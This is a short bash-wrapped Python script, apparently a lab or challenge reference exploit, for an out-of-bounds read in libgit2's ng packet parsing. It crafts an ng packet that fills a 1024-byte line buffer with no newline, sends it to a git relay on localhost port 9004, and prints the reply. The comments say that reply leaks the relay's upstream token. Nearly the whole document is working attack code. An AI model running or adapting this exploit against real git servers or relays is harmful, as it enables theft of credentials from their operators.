#!/bin/bash
# Reference exploit: ng_pkt (libgit2 before 1f9a8510) looks for the space and the newline with
# strchr, ignoring the packet's length. A payload that fills the 1024-byte line buffer with no
# newline makes it read on into the next field of the relay's connection state, the upstream token,
# up to that token's newline, and the relay prints it back as the rejection message.
set -euo pipefail
python3 - <<'PY'
import re, socket

# stage: one ng packet filling the line buffer exactly, no newline, then a flush-pkt
payload = b"ng refs/heads/main " + b"x" * (1024 - len(b"ng refs/heads/main "))
s = socket.create_connection(("127.0.0.1", 9004), timeout=10)
s.sendall(b"%04x" % (len(payload) + 4) + payload + b"0000")
out = b""
while chunk := s.recv(4096):
    out += chunk
print(out.decode(errors="replace")[-300:])
PY
